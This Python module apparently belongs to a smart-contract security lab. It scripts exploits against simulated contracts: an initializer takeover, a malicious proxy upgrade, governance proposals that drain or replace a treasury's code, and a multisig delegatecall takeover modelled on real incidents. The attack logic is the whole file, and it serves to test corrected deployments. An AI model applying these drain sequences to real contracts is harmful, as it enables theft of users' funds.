"""Exploits that take control first: an owner's place, the code behind a proxy, a vote, a multisig's keys."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from typing import Final

from rollproof import _core
from rollproof.chain import abi
from rollproof.lab import multisig
from rollproof.lab.actors.attempt import Attempt
from rollproof.lab.contract import Contract
from rollproof.lab.deployments.defi import GUARDIANS, THRESHOLD

IN_FAVOUR: Final = 1
SUCCEEDED: Final = 4  # of Governor.ProposalState
PATIENCE: Final = 200  # steps to wait for a vote or a delay


def initialiser(attempt: Attempt) -> Iterator[None]:
    """Becomes the owner, and sweeps."""
    vault, usdc = attempt.victim("OwnedVault"), attempt.deployed("USDC")
    amount = attempt.view(usdc, "balanceOf", vault.address)
    attempt.send(vault, "initialize", attempt.address, core=True)
    attempt.send(vault, "sweep", usdc.address, attempt.address, amount, core=True)
    yield


def upgrade(attempt: Attempt) -> Iterator[None]:
    """Puts code of its own behind the vault's proxy, and calls it."""
    vault, usdc = attempt.victim("SelfUpgradingVault"), attempt.deployed("USDC")
    code = attempt.deploy("DrainingVault")
    attempt.send(vault, "upgradeTo", code.address, core=True)
    attempt.send(code.at(vault.address), "drain", [usdc.address], core=True)
    yield


def governance_drain(attempt: Attempt) -> Iterator[None]:
    """A vote pays the treasury to who has the votes (Build Finance, February 2022)."""
    treasury, usdc = attempt.deployed("Treasury"), attempt.deployed("USDC")
    amount = attempt.view(usdc, "balanceOf", treasury.address) * 99 // 100  # others' grants come before it
    data = treasury.encode("pay", usdc.address, attempt.address, amount)
    yield from _decided(attempt, treasury, data, "Grants for the next quarter")


def governance_upgrade(attempt: Attempt) -> Iterator[None]:
    """A vote puts other code behind the treasury's proxy (Tornado Cash, May 2023: hidden in a harmless proposal)."""
    treasury, usdc = attempt.deployed("Treasury"), attempt.deployed("USDC")
    code = attempt.deploy("DrainingVault")
    drain = code.encode("drain", [usdc.address])
    arguments = abi.encode(["address", "bytes"], [code.address, drain])
    data = abi.selector("upgradeToAndCall(address,bytes)") + arguments
    yield from _decided(attempt, treasury, data, "Treasury: gas savings")


def _decided(attempt: Attempt, target: Contract, data: bytes, description: str) -> Iterator[None]:
    """Proposes, votes, queues and executes; on the corrected side the guardians cancel what waits in the timelock."""
    governor, timelock = attempt.deployed("Governor"), attempt.deployed("Timelock")
    attempt.robbed = target.address
    description = f"{description} (#{attempt.stack.l2.head.number})"  # the same calls may be proposed again
    described = _core.keccak256(description.encode())
    calls = ([target.address], [0], [data])
    [proposal] = attempt.stack.view("l2", governor, "hashProposal", *calls, described)
    proposed = attempt.send(governor, "propose", *calls, description)
    yield
    place = attempt.stack.l2.locate(proposed)
    if place is None:
        return
    # The vote opens after the voting delay and closes after the voting period, both in blocks.
    start = place[0].number + attempt.view(governor, "votingDelay")
    end = start + attempt.view(governor, "votingPeriod")
    yield from _until(attempt, lambda: attempt.stack.l2.head.number >= start)
    attempt.send(governor, "castVote", proposal, IN_FAVOUR)
    yield
    yield from _until(attempt, lambda: attempt.stack.l2.head.number > end)
    if attempt.view(governor, "state", proposal) != SUCCEEDED:
        return
    attempt.send(governor, "queue", *calls, described)
    yield
    operation = attempt.view(timelock, "hashOperationBatch", *calls, bytes(32), described)
    ready = attempt.view(timelock, "getTimestamp", operation)
    if attempt.fixed:
        cancel = timelock.encode("cancel", operation)
        safe, signers = attempt.deployed("GuardianSafe"), GUARDIANS[:THRESHOLD]
        attempt.note(multisig.execute(attempt.stack, "l2", safe, signers, timelock.address, cancel))
        yield
    yield from _until(attempt, lambda: attempt.stack.l2.head.timestamp >= ready)
    attempt.send(governor, "execute", *calls, described, core=True)
    yield


def _until(attempt: Attempt, there: Callable[[], bool]) -> Iterator[None]:
    for _ in range(PATIENCE):
        if there():
            return
        attempt.wait()
        yield


def multisig_takeover(attempt: Attempt) -> Iterator[None]:
    """Stolen keys sign a delegated call that changes the code of the Safe itself (Bybit, February 2025)."""
    safe, usdc = attempt.deployed("GuardianSafe"), attempt.deployed("USDC")
    attempt.robbed = safe.address
    swap, code = attempt.deploy("SingletonSwap"), attempt.deploy("DrainingVault")
    keys = THRESHOLD - 1 if attempt.fixed else attempt.parameter("keys")
    attempt.note(
        multisig.execute(
            attempt.stack, "l2", safe, GUARDIANS[:keys], swap.address, swap.encode("transfer", code.address, 0),
            operation=multisig.DELEGATE_CALL, sender=attempt.sender,
        ),
        core=True,
    )  # fmt: skip
    attempt.send(code.at(safe.address), "drain", [usdc.address], core=True)
    yield
